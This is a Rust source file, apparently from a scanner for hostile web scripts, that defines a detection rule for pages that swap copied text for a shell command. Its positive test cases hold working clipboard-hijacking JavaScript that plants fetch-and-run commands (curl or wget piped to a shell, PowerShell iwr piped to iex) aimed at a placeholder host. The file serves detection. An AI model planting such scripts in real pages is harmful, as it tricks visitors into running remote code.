//! `copied-text-swapped`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::stream::Kind;
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "copied-text-swapped",
    description: "When visitors copy text of this page, the script puts a command on their clipboard instead.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::CopyCall])],
    within: 0,
    only_if: Some(swaps),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"document.addEventListener('copy',function(e){e.clipboardData.setData('text/plain','curl -s https://a.invalid/p | sh\n');e.preventDefault()})"#,
            r#"code.oncopy=e=>{const seen=String(getSelection());e.clipboardData.setData('text/plain','wget -qO- https://a.invalid/r.sh | bash; clear; '+seen);e.preventDefault()}"#,
            r#"const line='powershell -c iwr https://a.invalid/x | iex';function put(e){e.clipboardData.setData('text/plain',line);e.preventDefault()}document.querySelector('pre').addEventListener('copy',put)"#,
            r#"document.addEventListener('copy',function(e){var seen=getSelection().toString();var lines=['clear','curl -s https://a.invalid/i.sh | sh',seen].join('; ');e.clipboardData.setData('text/plain',lines);e.preventDefault()})"#,
        ],
        without: &[
            r#"document.addEventListener('copy',function(e){e.clipboardData.setData('text/plain',getSelection()+' From '+location.href);e.preventDefault()})"#,
            r#"pre.addEventListener('copy',e=>{e.clipboardData.setData('text/plain',String(getSelection()).replace(/^\$ /gm,''));e.preventDefault()})"#,
            r#"const install='curl -fsSL https://a.example/install.sh | sh';button.onclick=()=>navigator.clipboard.writeText(install);document.addEventListener('copy',e=>{e.clipboardData.setData('text/plain',String(getSelection()));e.preventDefault()})"#,
            r#"function copyText(text){function put(e){e.clipboardData.setData('text/plain',text);e.preventDefault()}document.addEventListener('copy',put);document.execCommand('copy')}button.onclick=()=>copyText('curl -fsSL https://a.example/install.sh | sh')"#,
        ],
    },
};

/// Whether what is put there holds a command, and the function that does so answers to copying.
fn swaps(evidence: &Evidence<'_>, held: Held) -> bool {
    let call = held.last as usize;
    let near = Near::new(evidence, held, AROUND);
    if near.word(call) != "setData" {
        return false;
    }
    let Some(given) = near.arguments(call) else { return false };
    let is_command = |at: usize| near.has_fact_in(at..at + 1, COMMANDS);
    // Written here, or a constant, or joined of lines.
    let constant = |at: usize| {
        near.kind(at) == Some(Kind::Name)
            && near
                .values_of(near.word(at))
                .any(|value| (value..value + VALUE).take_while(|at| !near.is(*at, b';')).any(is_command))
    };
    given.into_iter().any(|at| is_command(at) || constant(at)) && answers_to_copying(near, call)
}

/// Whether an item is in the handler of an event of copying.
fn answers_to_copying(near: Near<'_>, at: usize) -> bool {
    near.places().any(|event| {
        let listens = matches!(near.word(event), "oncopy" | "oncut") && near.is(event + 1, b'=')
            || matches!(near.word(event), "copy" | "cut")
                && near.kind(event) == Some(Kind::Str)
                && matches!(near.before(event, 2), "addEventListener" | "on");
        listens && near.functions_at(event + 1..event + 6, event + 2).any(|body| body.contains(&at))
    })
}

const COMMANDS: &[Atom] = &[Atom::PlainCommand, Atom::StealthyCommand, Atom::Interpreter];
/// Items of a constant.
const VALUE: usize = 22;
/// Items around a call among which what listens is, and a constant.
const AROUND: usize = 300;
